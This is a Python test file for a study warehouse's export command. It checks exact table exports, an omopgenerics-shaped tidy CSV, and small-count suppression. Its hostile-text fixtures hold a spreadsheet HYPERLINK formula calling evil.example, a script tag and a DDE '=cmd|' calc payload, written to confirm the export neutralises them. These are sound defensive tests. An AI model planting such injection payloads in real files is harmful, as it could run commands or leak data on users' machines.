"""`vigil export`: exact typed files of every results table, and a disclosure-controlled omopgenerics summarised_result.

One generated study per module (2 sites): run 1 analyses the first site's delivery only, run 2 both sites with
two sensitivity analyses (SAP A12) as variants; run 2 is published as a snapshot. A second, hand-made study
carries hostile delivered text. The shape of the tidy table is checked against omopgenerics itself by
tests/reference/export_reference.R (`make reference`) on a sample written by
`python tests/test_export.py --write-sample tests/reference/data`; the tests compare their own reading of that
sample with R's, and check fresh exports with the same rules (vigil.export.tidy.check_summarised_result).
"""

from __future__ import annotations

import csv
import os
import re
import shutil
import subprocess
import sys
import tempfile
from collections import defaultdict
from pathlib import Path

import duckdb
import pytest

from vigil.export import MARKER, ExportPathError, export_run
from vigil.export.exact import run_tables
from vigil.export.tidy import COLUMNS, MAPPINGS, SUPPRESSED, check_summarised_result, read_csv, unmapped

ROOT = Path(__file__).resolve().parent.parent
REFERENCE = ROOT / "tests" / "reference"
VARIANTS = ["course-gap-60", "leave-one-site-out"]


def _build(root: Path, patients: int = 300) -> Path:
    """Run 1 on the first site's delivery, run 2 on both with VARIANTS; run 2 published as a snapshot."""
    from vigil import warehouse
    from vigil.analysis.runs import analyse
    from vigil.ingest import validation
    from vigil.ingest.load import ingest_delivery
    from vigil.synth import synthesize_study
    from vigil.warehouse.snapshots import publish_snapshot

    synth = synthesize_study(root / "landing", patients=patients, sites=2, seed=11)
    db = root / "wh" / "vigil.duckdb"
    with warehouse.connect(db) as con:
        warehouse.create_layout(con)
        first, second = synth.deliveries
        assert ingest_delivery(con, first, warehouse.gx_dir_for(db),
                               validator=validation.SQL_RULE_COUNTS).status == "accepted"
        assert analyse(con).run_id == 1
        assert ingest_delivery(con, second, warehouse.gx_dir_for(db),
                               validator=validation.SQL_RULE_COUNTS).status == "accepted"
        assert analyse(con, variants=VARIANTS).run_id == 2
    publish_snapshot(db, 2)
    return db


@pytest.fixture(scope="module")
def study(tmp_path_factory):
    root = tmp_path_factory.mktemp("export")
    db = _build(root)
    exports = {fmt: export_run(db, root / f"out-{fmt}", fmt=fmt) for fmt in ("parquet", "csv")}
    return db, exports


def _tidy(result):
    return read_csv(result.tidy_csv)


# ---------------------------------------------------------------------------------------------
# the mapping: every results table


def test_every_results_table_has_a_tidy_mapping():
    """Every table of sql/results/ with a run_id has an entry in vigil.export.tidy.MAPPINGS (a builder or the
    reason it is left out): a table added without one fails here, by name."""
    from vigil.analysis import results
    from vigil.resources import SQL_DIR

    con = duckdb.connect()
    con.execute("CREATE SCHEMA results")
    results.create_tables(con, sorted(p.stem for p in (SQL_DIR / "results").glob("*.sql")))
    tables = run_tables(con)
    assert "incidence" in tables and "runs" in tables
    missing = unmapped(tables)
    assert not missing, (f"results tables without a tidy mapping in vigil/export/tidy.py MAPPINGS: {missing}: add a "
                         "builder (with its disclosure rule) or an entry excluded='why'")
    assert not [m.table for m in MAPPINGS.values() if m.build is None and not m.excluded]


# ---------------------------------------------------------------------------------------------
# exact files


def _warehouse_rows(db: Path, table: str, run_id: int) -> list[tuple]:
    con = duckdb.connect(str(db), read_only=True)
    try:
        return con.execute(f'SELECT * FROM results."{table}" WHERE run_id = ? ORDER BY ALL', [run_id]).fetchall()
    finally:
        con.close()


def _file_rows(path: Path, columns: list[tuple[str, str]]) -> list[tuple]:
    con = duckdb.connect()
    con.execute("SET TimeZone = 'UTC'")
    if path.suffix == ".parquet":
        query = f"SELECT * FROM read_parquet('{path}') ORDER BY ALL"
    else:  # the warehouse's types; an empty field is NULL, a quoted empty one the empty text
        types = ", ".join(f"'{name}': '{dtype}'" for name, dtype in columns)
        query = (f"SELECT * FROM read_csv('{path}', header = true, columns = {{{types}}}, nullstr = '', "
                 "allow_quoted_nulls = false) ORDER BY ALL")
    return con.execute(query).fetchall()


@pytest.mark.slow
@pytest.mark.parametrize("fmt", ["parquet", "csv"])
def test_every_results_table_is_exported_with_the_warehouse_values(study, fmt):
    db, exports = study
    result = exports[fmt]
    con = duckdb.connect(str(db), read_only=True)
    tables = run_tables(con)
    con.close()
    assert sorted(f.table for f in result.exact) == tables
    for f in result.exact:
        assert f.path.is_file() and f.path.suffix == f".{fmt}"
        expected = _warehouse_rows(db, f.table, 2)
        assert f.rows == len(expected), f.table
        assert _file_rows(f.path, f.columns) == expected, f"{f.table}.{fmt} differs from results.{f.table} of run 2"
    runs = next(f for f in result.exact if f.table == "runs")
    assert runs.rows == 1
    variants = _warehouse_rows(db, "variants", 2)
    assert len(variants) >= 3  # main, course-gap-60 and a leave-one-site-out per site


@pytest.mark.slow
def test_csv_numbers_are_unformatted_and_null_is_an_empty_field(study):
    db, exports = study
    path = exports["csv"].out / "exact" / "incidence.csv"
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    expected = {(r[1], r[2], r[3], r[4]): r for r in _warehouse_rows(db, "incidence", 2)}
    con = duckdb.connect(str(db), read_only=True)
    names = [c for (c,) in con.execute("SELECT column_name FROM duckdb_columns() WHERE schema_name = 'results' "
                                       "AND table_name = 'incidence' ORDER BY column_index").fetchall()]
    con.close()
    for row in rows:
        stored = dict(zip(names, expected[(row["variant"], row["outcome"], row["stratifier"], row["stratum"])]))
        assert row["n_patients"] == str(stored["n_patients"])  # no thousands separator, exact
        assert float(row["person_years"]) == stored["person_years"]  # full precision
        assert row["note"] == ("" if stored["note"] is None else stored["note"])
        if stored["rate_per_1000py"] is None:
            assert row["rate_per_1000py"] == ""
    text = path.read_text(encoding="utf-8")
    assert "\r" not in text and text.splitlines()[0].startswith("run_id,variant,outcome")
    with (exports["csv"].out / "exact" / "dq_deliveries.csv").open(encoding="utf-8", newline="") as handle:
        received = [r["received_at"] for r in csv.DictReader(handle)]
    assert received and all(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z", r) for r in received)


# ---------------------------------------------------------------------------------------------
# the tidy table: shape


@pytest.mark.slow
def test_the_tidy_csv_has_the_shape_of_omopgenerics_exportsummarisedresult(study):
    _, exports = study
    result = exports["parquet"]
    lines = result.tidy_csv.read_text(encoding="utf-8").splitlines()
    assert lines[0] == ",".join(f'"{c}"' for c in COLUMNS)  # write.csv: quoted names
    rows, settings = _tidy(result)
    assert check_summarised_result(rows, settings) == []
    assert all(r["cdm_name"] == "ALZ-PASS-INF" for r in rows)  # two sites: the study
    types = {s["result_type"] for s in settings}
    assert {"incidence", "cumulative_incidence", "cox", "table1_counts", "observed_expected"} <= types
    assert "cumulative_incidence_curves" not in types and "runs" not in types
    for s in settings:
        assert s["package_name"] == "vigil" and s["min_cell_count"] == "5" and s["run_id"] == "2"
        assert s["analysis"] and s["variant"]
    assert {s["variant"] for s in settings} >= {"main", "course-gap-60"}
    settings_lines = [line for line in lines if ',"settings",' in line]
    assert settings_lines[0].startswith('"1",NA,"overall","overall","overall","overall","settings",NA,"result_type",'
                                        '"character",')


def _summary(rows: list[dict], settings: list[dict]) -> list[dict]:
    """What tests/reference/export_reference.R writes to expected/export/summary.csv."""
    by_id = defaultdict(list)
    for row in rows:
        by_id[row["result_id"]].append(row)
    out = []
    for s in settings:
        mine = by_id[s["result_id"]]
        out.append({"result_id": str(s["result_id"]), "result_type": s["result_type"], "variant": s["variant"],
                    "rows": str(len(mine)), "suppressed": str(sum(r["estimate_value"] == SUPPRESSED for r in mine)),
                    "estimate_names": " ".join(sorted({r["estimate_name"] for r in mine})),
                    "group": s.get("group", ""), "strata": s.get("strata", ""), "additional": s.get("additional", "")})
    return out


def _read_expected(name: str) -> list[dict]:
    with (REFERENCE / "expected" / "export" / name).open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_omopgenerics_reads_the_sample_as_vigil_does():
    """R's importSummarisedResult + validateResultArgument (every check) accepted the committed sample, and R's
    reading of it (result ids, types, rows, suppressed values, estimate names, settings) is ours."""
    rows, settings = read_csv(REFERENCE / "data" / "export_tidy.csv")
    assert check_summarised_result(rows, settings) == []
    assert _summary(rows, settings) == _read_expected("summary.csv")
    ours = [{k: ("" if v is None else v) for k, v in s.items()} for s in settings]
    theirs = _read_expected("settings.csv")
    assert len(ours) == len(theirs)
    for mine, r in zip(ours, theirs):
        assert {k: v for k, v in r.items() if v != ""} == {k: v for k, v in mine.items()
                                                           if v != "" and k != "package_version"} | {
            "result_id": str(mine["result_id"])}


# ---------------------------------------------------------------------------------------------
# the tidy table: disclosure control


def _is_count(row: dict) -> bool:
    return "count" in row["estimate_name"]


@pytest.mark.slow
def test_no_count_of_1_to_4_is_in_the_tidy_table(study):
    _, exports = study
    rows, _ = _tidy(exports["csv"])
    shown = [r for r in rows if _is_count(r) and r["estimate_value"] != SUPPRESSED]
    assert shown and not [r for r in shown if 0 < float(r["estimate_value"]) < 5]
    assert any(r["estimate_value"] == SUPPRESSED for r in rows if _is_count(r))  # the study has small cells
    assert any(r["estimate_value"] == "0" for r in shown)  # 0 is shown


@pytest.mark.slow
def test_a_suppressed_count_cannot_be_recovered_from_a_total(study):
    """In every set of strata that adds up to the overall row (same result, group, additional, variable and
    estimate), never exactly one part hidden while the total and the other parts are shown; and a count
    hidden under one name is hidden under every other (A13's observed = the incidence table's events)."""
    _, exports = study
    rows, settings = _tidy(exports["csv"])
    variant = {s["result_id"]: s["variant"] for s in settings}
    families = defaultdict(dict)
    for r in rows:
        if not _is_count(r):
            continue
        base = (r["result_id"], r["group_level"], r["additional_name"], r["additional_level"], r["variable_name"],
                r["variable_level"], r["estimate_name"])
        families[base][(r["strata_name"], r["strata_level"])] = r["estimate_value"]
    checked = 0
    for base, cells in families.items():
        total = cells.get(("overall", "overall"))
        if total is None or total == SUPPRESSED:
            continue
        by_stratifier = defaultdict(list)
        for (name, level), value in cells.items():
            if name != "overall":
                by_stratifier[name].append(value)
        for name, values in by_stratifier.items():
            hidden = [v for v in values if v == SUPPRESSED]
            checked += 1
            assert len(hidden) != 1, f"{base} {name}: one stratum hidden, total {total} and the others shown"
    assert checked > 50
    events = {}
    for r in rows:
        rt = next(s["result_type"] for s in settings if s["result_id"] == r["result_id"])
        if variant[r["result_id"]] == "main" and (rt, r["variable_name"]) in (("incidence", "number_events"),
                                                                              ("observed_expected", "observed")):
            events.setdefault((r["group_level"], r["strata_name"], r["strata_level"]), set()).add(r["estimate_value"])
    assert events and not [k for k, v in events.items() if SUPPRESSED in v and len(v) > 1]
    # leaving a site out (SAP A12 b): main overall = the variant's overall + the site's stratum of main
    incidence = {(variant[r["result_id"]], r["group_level"], r["strata_name"], r["strata_level"], r["variable_name"]):
                 r["estimate_value"] for r in rows
                 if next(s["result_type"] for s in settings if s["result_id"] == r["result_id"]) == "incidence"}
    left_out = [v for v in set(variant.values()) if v.startswith("leave-out-")]
    assert left_out
    for v in left_out:
        site = v.removeprefix("leave-out-").upper()
        for what in ("number_subjects", "number_events"):
            cells = [incidence.get(("main", "first_serious", "overall", "overall", what)),
                     incidence.get((v, "first_serious", "overall", "overall", what)),
                     incidence.get(("main", "first_serious", "site", site, what))]
            assert None not in cells and cells.count(SUPPRESSED) != 1, (v, what, cells)


@pytest.mark.slow
def test_the_tidy_table_suppresses_what_the_report_suppresses(study):
    """Incidence, cumulative incidence and attrition: a value is "-" in the tidy table exactly where the
    report's table shows <5 or [c]."""
    from vigil.report import tables as T
    from vigil.report.data import STRATIFIERS, load_run
    from vigil.report.protect import build_protection

    db, exports = study
    con = duckdb.connect(str(db), read_only=True)
    data = load_run(con, 2)
    con.close()
    prot = build_protection(data, T.at_risk_frame(data))
    rows, settings = _tidy(exports["csv"])
    result_of = {(s["result_type"], s.get("method"), s["variant"]): s["result_id"] for s in settings}
    label = {v: k for k, v in STRATIFIERS.items()}
    shown_hidden = ("<5", "[c]")

    def tidy_of(result_type, method=None):
        rid = result_of[(result_type, method, "main")]
        return {(r["group_level"], r["strata_name"], r["strata_level"], r["variable_name"], r["estimate_name"],
                 r["additional_level"]): r["estimate_value"] == SUPPRESSED for r in rows if r["result_id"] == rid}

    def strata(row):
        s = label[row["Stratifier"]]
        return ("overall", "overall") if s == "overall" else (s, row["Stratum"])

    compared = 0
    incidence = tidy_of("incidence")
    for outcome in ("first_serious", "all_serious", "first_opportunistic"):
        for row in T.incidence_table(data, prot, outcome).frame.iter_rows(named=True):
            for column, variable, estimate in (("Patients", "number_subjects", "count"),
                                               ("Events", "number_events", "count"),
                                               ("Person-years", "person_years", "sum"),
                                               ("Rate per 1,000 PY", "incidence_rate_per_1000_person_years",
                                                "estimate")):
                mine = incidence.get((outcome, *strata(row), variable, estimate, "overall"))
                if mine is not None:
                    compared += 1
                    assert mine == (row[column] in shown_hidden), (outcome, row, column)
    events = T.cumulative_events(data)
    for method in ("kaplan_meier", "aalen_johansen"):
        cumulative = tidy_of("cumulative_incidence", method)
        for outcome in ("first_serious", "first_opportunistic"):
            table = T.cumulative_incidence_table(data, prot, method, outcome, events).frame
            for row in table.iter_rows(named=True):
                for column in table.columns[2:]:
                    mine = cumulative.get((outcome, *strata(row), "cumulative_incidence", "estimate",
                                           column.split()[1]))
                    if mine is not None:
                        compared += 1
                        assert mine == (row[column] in shown_hidden), (method, outcome, row, column)
    attrition = tidy_of("attrition")
    for row in T.attrition_table(data, prot, T.attrition_keys(data, prot)).frame.iter_rows(named=True):
        step = "0" if row["Step"] == "Received" else row["Step"]
        hidden = {k[3]: v for k, v in attrition.items() if k[5] == step}
        compared += 1
        assert hidden["number_subjects"] == (row["Patients remaining"] in shown_hidden)
        if row["Patients excluded"]:
            assert hidden["excluded_subjects"] == (row["Patients excluded"] in shown_hidden)
    assert compared > 300


# ---------------------------------------------------------------------------------------------
# runs, sources, OUT


@pytest.mark.slow
def test_an_older_run_exports_its_own_rows(study, tmp_path):
    db, _ = study
    result = export_run(db, tmp_path / "run1", run_id=1, fmt="csv")
    assert result.run_id == 1
    for f in result.exact:
        assert _file_rows(f.path, f.columns) == _warehouse_rows(db, f.table, 1), f.table
    rows, settings = _tidy(result)
    assert {s["run_id"] for s in settings} == {"1"}
    assert len({r["cdm_name"] for r in rows}) == 1 and rows[0]["cdm_name"] != "ALZ-PASS-INF"  # one site: its id
    assert "run 1" in result.readme.read_text(encoding="utf-8")


@pytest.mark.slow
def test_a_snapshot_exports_what_the_warehouse_does(study, tmp_path):
    from vigil.warehouse.snapshots import current_snapshot

    db, exports = study
    result = export_run(current_snapshot(db), tmp_path / "from-snapshot", fmt="parquet")
    assert result.run_id == 2
    for mine, theirs in zip(result.exact, exports["parquet"].exact):
        assert mine.path.name == theirs.path.name
        if mine.table == "runs":  # the snapshot cannot hold its own hash: results.runs.snapshot_sha256 is NULL there
            con = duckdb.connect()
            query = "SELECT * EXCLUDE (snapshot_sha256) FROM read_parquet('{}')"
            assert con.execute(query.format(mine.path)).fetchall() == con.execute(query.format(theirs.path)).fetchall()
            continue
        assert mine.path.read_bytes() == theirs.path.read_bytes(), mine.table
    assert result.tidy_csv.read_bytes() == exports["parquet"].tidy_csv.read_bytes()
    assert "snapshot" in result.readme.read_text(encoding="utf-8")


@pytest.mark.slow
def test_an_earlier_export_is_replaced_whole_and_any_other_folder_refused(study, tmp_path):
    db, _ = study
    out = tmp_path / "out"
    export_run(db, out, fmt="csv")
    (out / "exact" / "stale.csv").write_text("old\n")
    export_run(db, out, fmt="parquet")
    assert (out / MARKER).is_file() and not (out / "exact" / "stale.csv").exists()
    assert {p.suffix for p in (out / "exact").iterdir()} == {".parquet"}
    other = tmp_path / "mine"
    other.mkdir()
    (other / "notes.txt").write_text("keep me\n")
    with pytest.raises(ExportPathError, match="not an earlier export"):
        export_run(db, other)
    assert [p.name for p in other.iterdir()] == ["notes.txt"]
    assert not [p for p in tmp_path.iterdir() if ".partial" in p.name or ".previous" in p.name]


@pytest.mark.slow
def test_the_cli_refuses_a_bad_out_in_one_line(study, tmp_path):
    db, _ = study
    other = tmp_path / "mine"
    other.mkdir()
    (other / "notes.txt").write_text("keep me\n")
    env = {**os.environ, "VIGIL_DEBUG": ""}
    done = subprocess.run([sys.executable, "-m", "vigil.cli", "export", "--db", str(db), str(other)], cwd=ROOT,
                          capture_output=True, text=True, env=env, timeout=300)
    assert done.returncode == 2
    assert len(done.stderr.strip().splitlines()) == 1 and done.stderr.startswith("error:")
    assert "Traceback" not in done.stderr and "not an earlier export" in done.stderr
    assert (other / "notes.txt").read_text() == "keep me\n" and len(list(other.iterdir())) == 1
    done = subprocess.run([sys.executable, "-m", "vigil.cli", "export", "--db", str(db), "--run", "99",
                           str(tmp_path / "new")], cwd=ROOT, capture_output=True, text=True, env=env, timeout=300)
    assert done.returncode == 1 and done.stderr.strip() == "error: run 99 is not in results.runs"
    assert not (tmp_path / "new").exists()


@pytest.mark.slow
def test_the_readme_says_what_each_file_is_and_who_may_see_it(study):
    _, exports = study
    for fmt, result in exports.items():
        text = result.readme.read_text(encoding="utf-8")
        assert "must not leave the study team" in text and "run 2" in text
        for f in result.exact:
            assert f"`exact/{f.path.name}`" in text
        assert "importSummarisedResult" in text and "proc import" in text.lower()
        assert "2026-06-30" in text  # the data cuts


# ---------------------------------------------------------------------------------------------
# hostile delivered text

FORMULA_TERM = '=HYPERLINK("http://evil.example/?zqterm","x")<script>zqmarkup</script>'
FOLDER = "=cmd|' \\C calc'!A0 zqfolder\nforged"  # a folder name holds any byte but / and NUL


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    from helpers import valid_rows, write_delivery

    from vigil import warehouse
    from vigil.analysis.runs import analyse
    from vigil.ingest import validation
    from vigil.ingest.load import ingest_delivery

    root = tmp_path_factory.mktemp("hostile")
    db = root / "wh" / "vigil.duckdb"
    rows = valid_rows()
    rows["infections"][0]["meddra_pt"] = FORMULA_TERM
    with warehouse.connect(db) as con:
        warehouse.create_layout(con)
        for folder in (write_delivery(root / "in", rows), write_delivery(root / "in", valid_rows("SE02"), site="SE02")):
            assert ingest_delivery(con, folder, warehouse.gx_dir_for(db),
                                   validator=validation.SQL_RULE_COUNTS).status == "accepted"
        bad = write_delivery(root / "bad", valid_rows("SE03"), site="SE03")
        bad = bad.rename(bad.with_name(FOLDER))
        assert ingest_delivery(con, bad, warehouse.gx_dir_for(db),
                               validator=validation.SQL_RULE_COUNTS).status == "refused"
        analyse(con)
    return db, export_run(db, root / "out", fmt="csv")


@pytest.mark.slow
@pytest.mark.faults
def test_hostile_delivered_text_stays_inert_in_the_tidy_table(hostile):
    _, result = hostile
    text = result.tidy_csv.read_text(encoding="utf-8")
    assert "zqterm" in text and "zqfolder" in text
    with result.tidy_csv.open(encoding="utf-8", newline="") as handle:
        fields = [v for line in csv.reader(handle) for v in line]
    for value in fields:
        assert "\n" not in value and "\r" not in value
        if value.lstrip(" ").startswith(("=", "+", "-", "@", "\t")):
            assert value == SUPPRESSED or float(value) is not None, value  # the marker, or a number
    terms = [v for v in fields if "zqterm" in v]
    assert terms and all(v.startswith("'=HYPERLINK") and "<script>zqmarkup</script>" in v for v in terms)
    folders = [v for v in fields if "zqfolder" in v]  # the refused delivery's folder name and reason
    assert folders and all("\\x0aforged" in v for v in folders)
    assert "'=cmd|' \\C calc'!A0 zqfolder\\x0aforged" in folders


@pytest.mark.slow
@pytest.mark.faults
def test_hostile_text_is_exact_in_the_statisticians_files_and_flagged_in_the_readme(hostile):
    db, result = hostile
    exact = {f.table: f for f in result.exact}
    rows = _file_rows(exact["unexpected_terms"].path, exact["unexpected_terms"].columns)
    assert rows == _warehouse_rows(db, "unexpected_terms", 1)
    term = [name for name, _ in exact["unexpected_terms"].columns].index("meddra_pt")
    assert FORMULA_TERM in [r[term] for r in rows]  # as stored, not neutralised
    assert exact["unexpected_terms"].formula_like == {"meddra_pt": 1}
    readme = result.readme.read_text(encoding="utf-8")
    assert "not a spreadsheet" in readme and "`exact/unexpected_terms.csv`, column `meddra_pt`" in readme
    assert "zqfolder" not in readme and "zqterm" not in readme  # the README names files and columns, not values
    assert "no mapping" not in readme


# ---------------------------------------------------------------------------------------------
# the sample for tests/reference/export_reference.R


def write_sample(folder: Path) -> Path:
    """Build the module's study in a temporary folder, export it and copy the tidy CSV to
    <folder>/export_tidy.csv (`make reference` then runs tests/reference/export_reference.R on it)."""
    with tempfile.TemporaryDirectory() as tmp:
        db = _build(Path(tmp))
        result = export_run(db, Path(tmp) / "out", fmt="parquet")
        folder.mkdir(parents=True, exist_ok=True)
        target = folder / "export_tidy.csv"
        shutil.copyfile(result.tidy_csv, target)
    return target


if __name__ == "__main__":
    if len(sys.argv) == 3 and sys.argv[1] == "--write-sample":
        print(write_sample(Path(sys.argv[2])))
    else:
        sys.exit("usage: python tests/test_export.py --write-sample tests/reference/data")
